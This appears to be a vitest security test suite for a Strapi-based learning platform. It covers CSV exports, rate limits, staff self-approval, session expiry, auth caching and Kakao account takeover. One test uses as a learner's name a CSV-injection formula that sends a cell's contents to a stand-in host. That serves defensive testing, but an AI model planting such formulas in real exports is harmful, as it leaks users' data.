import { strFromU8, unzipSync } from 'fflate';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { messages } from '@dharma/config/words';
import { RATE_LIMITS, rateLimitEnvName, VOLUNTEER_ENTRIES_PER_GRADE, type RateLimitBucket } from '@dharma/config/rules';
import { startLearnerStack, type LearnerStack } from '../support/learners';
import { applicationRow, seedSummer2030 } from '../support/summer-2030';

/**
 * What an attacker with a learner's or a staff member's account could do, tried against a real
 * Strapi on the summer-2030 school (clock pinned to 2030-07-03, day 3 of its term): formulas in
 * the CSV exports, writing faster than any person, dealing with one's own records as staff, a
 * staff sign-in outliving its back-office limits, one learner's sign-up reaching everyone's cached
 * sign-in, a Kakao account whose e-mail is not verified taking over a prepared staff account, and
 * two requests racing one refresh.
 */
const TODAY = '2030-07-03T10:00:00+09:00';
const D5 = '/v2/classes/2030SU/D5';
const LIMIT = 3;
const FORMULA_NAME = '=HYPERLINK("http://x.example/?"&C2,"ok")';
let stack: LearnerStack;

type Learner = { token: string; refresh: string; id: number };
const q = (uid: string) => stack.cms.strapi.db.query(uid);
let n = 0;
const learner = (name = `학인${++n}`, email = `security${++n}.${Date.now()}@example.com`): Promise<Learner> => stack.signedIn(email, name);
/** A paid class of 2030SU (dhammapada 5) for the learner: their grade's id. */
const paidGrade = (who: Learner, name = '학인') =>
  applicationRow(stack.cms.strapi, who.id, name, {
    semesterCode: '2030SU',
    courseCode: '2030SU-D5',
    status: 'approved',
    paidAt: new Date('2030-06-10'),
  });
const sessionIdOf = (accessToken: string): string => JSON.parse(Buffer.from(accessToken.split('.')[1]!, 'base64url').toString()).sessionId;

beforeAll(async () => {
  process.env.DHARMA_NOW = TODAY;
  const limits = Object.fromEntries(
    (Object.keys(RATE_LIMITS) as RateLimitBucket[])
      .filter((b) => !['exchange', 'refresh'].includes(b))
      .map((bucket) => [rateLimitEnvName(bucket), String(LIMIT)]),
  );
  stack = await startLearnerStack('security-learners', {
    DHARMA_NOW: TODAY,
    SEED_DEMO_CONTENT: 'false',
    STAFF_EMAILS: 'staff@example.com,office@example.com',
    // Long enough that a sign-in learned once is answered from the cache for the whole file.
    AUTH_CACHE_SECONDS: '120',
    ...limits,
  });
  await seedSummer2030(stack.cms.strapi);
});

afterAll(async () => {
  await stack?.stop();
  delete process.env.DHARMA_NOW;
});

describe('CSV exports and formulas', () => {
  const isNeutral = (cell: string) => !/^[=+\-@\t\r]/.test(cell);

  it('every CSV staff or learners download keeps a name like =HYPERLINK(…) as text', async () => {
    const staff = await learner('사무장', 'staff@example.com');
    const hostile = await learner(FORMULA_NAME);
    await paidGrade(hostile, FORMULA_NAME);
    const pair = await stack.call('POST', '/v1/staff/mentor-pairs', {
      token: staff.token,
      body: { mentee_name: '=1+2', mentee_phone: '010-1234-5678', mentor_name: '@SUM(A1)', mentor_phone: '02-123-4567' },
    });
    expect(pair.status).toBe(200);

    const files: [string, string][] = [];
    for (const path of ['/v1/staff/students.csv', '/v1/staff/progress.csv', '/v1/staff/mentor-pairs.csv']) {
      const res = await stack.call('GET', path, { token: staff.token });
      expect(res.status, path).toBe(200);
      files.push([path, res.body as string]);
    }
    const zip = await fetch(`${stack.cms.url}/api/v1/me/data`, {
      headers: { Authorization: `Bearer ${hostile.token}`, 'x-dharma-server-secret': stack.secret },
    });
    expect(zip.status).toBe(200);
    for (const [name, bytes] of Object.entries(unzipSync(new Uint8Array(await zip.arrayBuffer())))) {
      if (name.endsWith('.csv')) files.push([`my data ${name}`, strFromU8(bytes)]);
    }

    const seen: Record<string, string[]> = {};
    for (const [path, text] of files) {
      const cells = (parse(text.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][]).flat();
      expect(
        cells.filter((cell) => !isNeutral(cell)),
        path,
      ).toEqual([]);
      seen[path] = cells.filter((cell) => /HYPERLINK|=1\+2|@SUM/.test(cell));
    }
    // The names are there, as text a spreadsheet shows rather than runs.
    expect(seen['/v1/staff/students.csv']).toContain(`'${FORMULA_NAME}`);
    expect(seen['/v1/staff/progress.csv']).toContain(`'${FORMULA_NAME}`);
    expect(seen['/v1/staff/mentor-pairs.csv']).toEqual(expect.arrayContaining(["'=1+2", "'@SUM(A1)"]));
    expect(
      Object.entries(seen)
        .filter(([path]) => path.startsWith('my data'))
        .flatMap(([, cells]) => cells),
    ).toContain(`'${FORMULA_NAME}`);
  });
});

describe('per-minute limits', () => {
  let who: Learner;
  let grade: number;
  beforeAll(async () => {
    who = await learner('빠른학인');
    grade = await paidGrade(who);
    await applicationRow(stack.cms.strapi, who.id, '빠른학인', { semesterCode: '2029FA', courseCode: '2029FA-D5', status: 'completed' });
  });

  /** LIMIT calls pass (whatever they answer), the next is 429 in Korean with Retry-After. */
  async function limitAt(call: (i: number) => Promise<{ status: number; body: any }>, what: string) {
    for (let i = 0; i < LIMIT; i++) expect((await call(i)).status, `${what} #${i + 1}`).not.toBe(429);
    const refused = await call(LIMIT);
    expect(refused.status, `${what} past the limit`).toBe(429);
    expect(refused.body.error.message).toBe(messages.rate_limited);
  }

  it('task answers: the answer past the limit is not saved', async () => {
    await limitAt(
      (i) =>
        stack.call('PATCH', `${D5}/tasks`, { token: who.token, body: { type: 'verse', task_id: '3:verse', response: `게송 ${i + 1}` } }),
      'task',
    );
    const saved = await q('plugin::studyroom.task-response').findOne({ where: { owner: who.id, day: 3, taskKey: 'verse' } });
    expect(saved.response).toBe(`게송 ${LIMIT}`);
  });

  it('votes, volunteer entries, lifestyle checks and member edits: nothing past the limit is written', async () => {
    const classmate = await learner('도반');
    await paidGrade(classmate);
    expect(
      (
        await stack.call('PATCH', `${D5}/tasks`, {
          token: classmate.token,
          body: { type: 'verse', task_id: '1:verse', response: '도반의 게송' },
        })
      ).status,
    ).toBe(200);
    const post = await q('plugin::studyroom.task-response').findOne({ where: { owner: classmate.id, day: 1, taskKey: 'verse' } });
    await limitAt(() => stack.call('POST', `${D5}/vote`, { token: who.token, body: { type: 'verse', id: post.id } }), 'vote');
    expect(await q('plugin::studyroom.vote').count({ where: { voter: who.id } })).toBeLessThanOrEqual(1);

    await limitAt(
      () => stack.call('POST', `/v1/grade/${grade}/volunteer`, { token: who.token, body: { date: '2030-07-02', hrs: 1, content: '청소' } }),
      'volunteer',
    );
    expect(await q('plugin::records.volunteer-entry').count({ where: { owner: who.id } })).toBe(LIMIT);

    await limitAt(
      (i) => stack.call('PATCH', `/v1/grade/${grade}/lifestyle`, { token: who.token, body: { name: `나만의 실천 ${i + 1}` } }),
      'lifestyle',
    );
    expect(await q('plugin::records.own-practice').count({ where: { owner: who.id } })).toBe(LIMIT);

    await limitAt((i) => stack.call('PATCH', '/v1/member', { token: who.token, body: { name: `빠른학인${i + 1}`, phone: '' } }), 'member');
    expect((await q('plugin::users-permissions.user').findOne({ where: { id: who.id } })).name).toBe(`빠른학인${LIMIT}`);
  });

  it('the costly reads: certificate PDF and the data zip', async () => {
    const list = await stack.call('GET', '/v1/certificates', { token: who.token });
    const key = list.body[0].key;
    await limitAt(() => stack.call('GET', `/v1/certificates/${key}/pdf`, { token: who.token }), 'certificate pdf');
    await limitAt(() => stack.call('GET', '/v1/me/data', { token: who.token }), 'my data');
  });

  it('are per learner: another learner, from the same address, still writes', async () => {
    const other = await learner('다른학인');
    await paidGrade(other);
    const ip = '10.77.0.1';
    expect((await stack.call('PATCH', '/v1/member', { token: other.token, ip, body: { name: '다른학인', phone: '' } })).status).toBe(200);
  });

  it('certificate checks are limited per address, for anyone', async () => {
    await limitAt(() => stack.call('GET', '/v1/certificates/verify/DS-2222-2222', { ip: '10.77.0.9' }), 'certificate check');
    expect((await stack.call('GET', '/v1/certificates/verify/DS-2222-2222', { ip: '10.77.0.10' })).status).toBe(404);
  });
});

describe('a class’s volunteer log', () => {
  it(`holds at most ${VOLUNTEER_ENTRIES_PER_GRADE} entries`, async () => {
    const who = await learner('봉사왕');
    const grade = await paidGrade(who);
    for (let i = 0; i < VOLUNTEER_ENTRIES_PER_GRADE; i++) {
      await q('plugin::records.volunteer-entry').create({
        data: { owner: who.id, application: grade, date: '2030-07-01', halfHours: 1, content: `기록 ${i}` },
      });
    }
    const res = await stack.call('POST', `/v1/grade/${grade}/volunteer`, {
      token: who.token,
      body: { date: '2030-07-02', hrs: 1, content: '하나 더' },
    });
    expect(res.status).toBe(409);
    expect(res.body.error.message).toBe(messages.volunteer_entry_limit);
    expect(await q('plugin::records.volunteer-entry').count({ where: { owner: who.id } })).toBe(VOLUNTEER_ENTRIES_PER_GRADE);
  });
});

describe('staff and their own records', () => {
  let staff: Learner;
  beforeAll(async () => {
    staff = await learner('사무장', 'staff@example.com');
  });

  it('cannot approve or cancel their own application (409), one by one or in bulk; another learner’s goes through', async () => {
    // The staff member applied for the coming semester like any learner, and waits for payment.
    await stack.cms.strapi.documents('api::semester.semester').create({
      data: {
        code: '2030FA',
        label: '2030 가을학기',
        termStart: '2030-09-07',
        termEnd: '2030-11-22',
        applyStart: '2030-07-01',
        applyEnd: '2030-07-20',
        registrationFee: 100000,
        admissionFee: 30000,
        bankAccount: '농협 000-0000',
        paymentDue: '2030-07-20',
      },
    });
    const other = await learner('지원자');
    for (const who of [staff, other]) {
      await applicationRow(stack.cms.strapi, who.id, '지원자', {
        semesterCode: '2030FA',
        courseCode: '2030FA-D5',
        status: 'applied',
        amountDue: 130000,
      });
    }
    const statuses = async (owner: number) =>
      (await q('plugin::enrolment.application').findMany({ where: { owner, semesterCode: '2030FA' } })).map((r: any) => r.status);
    for (const [action, body] of [
      ['approve', { semester: '2030FA' }],
      ['cancel', { reason: '사유', semester: '2030FA' }],
    ] as const) {
      const res = await stack.call('POST', `/v1/staff/applications/${staff.id}/${action}`, { token: staff.token, body });
      expect(res.status, action).toBe(409);
      expect(res.body.error.message).toBe(messages.self_approval);
    }
    const bulk = await stack.call('POST', '/v1/staff/applications/approve', {
      token: staff.token,
      body: { learners: [staff.id, other.id], semester: '2030FA' },
    });
    expect(bulk.status).toBe(200);
    expect(bulk.body).toMatchObject({ approved: [other.id], skipped: [staff.id] });
    expect(new Set(await statuses(staff.id))).toEqual(new Set(['applied']));
    expect(new Set(await statuses(other.id))).toEqual(new Set(['approved']));
    expect(await q('plugin::records.audit-entry').count({ where: { subject: staff.id } })).toBe(0);
  });

  it('cannot confirm their own volunteer hours (409); a learner’s they can', async () => {
    const grade = await paidGrade(staff, '사무장');
    const own = await q('plugin::records.volunteer-entry').create({
      data: { owner: staff.id, application: grade, date: '2030-07-02', halfHours: 4, content: '법당 청소' },
    });
    const res = await stack.call('PATCH', `/v1/staff/volunteers/${own.id}/confirm`, { token: staff.token });
    expect(res.status).toBe(409);
    expect(res.body.error.message).toBe(messages.self_volunteer_confirm);
    expect((await q('plugin::records.volunteer-entry').findOne({ where: { id: own.id } })).confirmedAt).toBeNull();

    const someone = await learner('봉사자');
    const theirs = await q('plugin::records.volunteer-entry').create({
      data: { owner: someone.id, application: await paidGrade(someone), date: '2030-07-02', halfHours: 2, content: '공양간' },
    });
    expect((await stack.call('PATCH', `/v1/staff/volunteers/${theirs.id}/confirm`, { token: staff.token })).status).toBe(200);
  });

  it('cannot hide their own verse (409); a learner’s they can', async () => {
    expect(
      (
        await stack.call('PATCH', `${D5}/tasks`, {
          token: staff.token,
          body: { type: 'verse', task_id: '2:verse', response: '사무장의 게송' },
        })
      ).status,
    ).toBe(200);
    const own = await q('plugin::studyroom.task-response').findOne({ where: { owner: staff.id, day: 2, taskKey: 'verse' } });
    const res = await stack.call('PATCH', `/v1/staff/posts/${own.id}`, { token: staff.token, body: { hidden: true, reason: '시험' } });
    expect(res.status).toBe(409);
    expect(res.body.error.message).toBe(messages.self_moderation);
    expect((await q('plugin::studyroom.task-response').findOne({ where: { id: own.id } })).hidden).toBe(false);

    const writer = await learner('글쓴이');
    await paidGrade(writer);
    await stack.call('PATCH', `${D5}/tasks`, {
      token: writer.token,
      body: { type: 'verse', task_id: '2:verse', response: '연락처 010-0000-0000' },
    });
    const theirs = await q('plugin::studyroom.task-response').findOne({ where: { owner: writer.id, day: 2, taskKey: 'verse' } });
    expect(
      (await stack.call('PATCH', `/v1/staff/posts/${theirs.id}`, { token: staff.token, body: { hidden: true, reason: '연락처' } })).status,
    ).toBe(200);
  });
});

describe('a staff sign-in in the back office', () => {
  const staffCall = (token: string) => stack.call('GET', '/v1/staff/me', { token });
  const setMetadata = async (token: string, change: (metadata: Record<string, string>) => Record<string, string> | null) => {
    const row = await q('admin::session').findOne({ where: { sessionId: sessionIdOf(token) } });
    await q('admin::session').update({ where: { id: row.id }, data: { metadata: change(row.metadata ?? {}) } });
  };
  const hoursAgo = (hours: number) => new Date(Date.now() - hours * 3600_000).toISOString();

  it('works after a fresh sign-in and records when it was last used', async () => {
    const { token } = await learner('사무장', 'staff@example.com');
    const res = await staffCall(token);
    expect(res.status).toBe(200);
    expect(res.body.roles).toContain('ADMIN');
    const row = await q('admin::session').findOne({ where: { sessionId: sessionIdOf(token) } });
    expect(Date.parse(row.metadata.staffSeenAt)).toBeGreaterThan(Date.now() - 60_000);
  });

  it('is refused 12 hours after the Kakao sign-in, with the reason web turns into a fresh sign-in; the learner’s own pages still work', async () => {
    const { token } = await learner('사무장', 'staff@example.com');
    await setMetadata(token, (m) => ({ ...m, signedInAt: hoursAgo(12.1), staffSeenAt: hoursAgo(0.1) }));
    const res = await staffCall(token);
    expect(res.status).toBe(401);
    expect(res.body.error.message).toBe(messages.staff_reauth);
    expect(res.body.error.details.reason).toBe('staff_reauth');
    expect((await stack.call('GET', '/v1/staff/applications', { token })).status).toBe(401);
    expect((await stack.call('GET', '/v1/member', { token })).status).toBe(200);
  });

  it('is refused after 2 hours without a back-office request, and when it does not say when it began', async () => {
    const idle = await learner('사무장', 'staff@example.com');
    await setMetadata(idle.token, (m) => ({ ...m, signedInAt: hoursAgo(3), staffSeenAt: hoursAgo(2.1) }));
    expect((await staffCall(idle.token)).status).toBe(401);
    const unknown = await learner('사무장', 'staff@example.com');
    await setMetadata(unknown.token, () => null);
    expect((await staffCall(unknown.token)).status).toBe(401);
    // Just inside both limits it passes.
    const fine = await learner('사무장', 'staff@example.com');
    await setMetadata(fine.token, (m) => ({ ...m, signedInAt: hoursAgo(11.9), staffSeenAt: hoursAgo(1.9) }));
    expect((await staffCall(fine.token)).status).toBe(200);
  });
});

describe('sign-in and the CMS’s cached authentications', () => {
  it('one learner signing up leaves every other learner’s cached sign-in as it was', async () => {
    const bystander = await learner('곁의학인');
    expect((await stack.call('GET', '/v1/member', { token: bystander.token })).status).toBe(200);
    // Their sign-in ends in another CMS process (its rows go); this process has it cached.
    await q('admin::session').deleteMany({ where: { userId: String(bystander.id) } });
    const tokens = await stack.signIn(`newcomer.${Date.now()}@example.com`, null);
    expect(
      (await stack.call('POST', '/v1/user/signup', { token: tokens.access_token, body: { username: '새학인', agreed: true } })).status,
    ).toBe(200);
    // Still answered from the cache: the newcomer's sign-up did not make every learner verify again.
    expect((await stack.call('GET', '/v1/member', { token: bystander.token })).status).toBe(200);
    // While the newcomer's own is read afresh (the name they just gave).
    expect((await stack.call('GET', '/v1/member', { token: tokens.access_token })).body.username).toBe('새학인');
  });

  it('a Kakao e-mail counts only when Kakao says it is verified: it never takes over a prepared staff account', async () => {
    for (const account of [{ is_email_verified: undefined }, { is_email_verified: false }, { is_email_valid: undefined }]) {
      const kakaoToken = stack.kakao.issueAccessToken({ email: 'office@example.com', nickname: `n${++n}`, account });
      // A different Kakao person each time (the stand-in's id follows the e-mail).
      const res = await stack.call('POST', '/v1/session/exchange', { body: { kakao_access_token: kakaoToken } });
      expect(res.status, JSON.stringify(account)).toBe(200);
      const me = await stack.call('GET', '/v1/member', { token: res.body.access_token });
      expect(me.body.roles, JSON.stringify(account)).not.toContain('ADMIN');
      expect(me.body.email).toBeNull();
      // Undo, so the next flag is tried on a fresh Kakao account.
      await q('plugin::users-permissions.user').delete({ where: { kakaoId: { $notNull: true }, email: { $endsWith: '@users.invalid' } } });
    }
    const prepared = await q('plugin::users-permissions.user').findOne({ where: { email: 'office@example.com' } });
    expect(prepared.kakaoId).toBeNull();
    // With Kakao's word that it is verified, the prepared account is taken as before.
    const verified = await stack.call('POST', '/v1/session/exchange', {
      body: { kakao_access_token: stack.kakao.issueAccessToken({ email: 'office@example.com', nickname: 'office' }) },
    });
    expect((await stack.call('GET', '/v1/member', { token: verified.body.access_token })).body.roles).toContain('ADMIN');
  });

  it('a second use of a refresh token moments after its rotation is "try again" (409), and the newer token keeps working', async () => {
    const who = await learner('두탭학인');
    const first = await stack.call('POST', '/v1/session/refresh', { body: { refresh_token: who.refresh } });
    expect(first.status).toBe(200);
    const raced = await stack.call('POST', '/v1/session/refresh', { body: { refresh_token: who.refresh } });
    expect(raced.status).toBe(409);
    expect(raced.body.error.message).toBe(messages.session_busy);
    expect((await stack.call('POST', '/v1/session/refresh', { body: { refresh_token: first.body.refresh_token } })).status).toBe(200);
  });
});
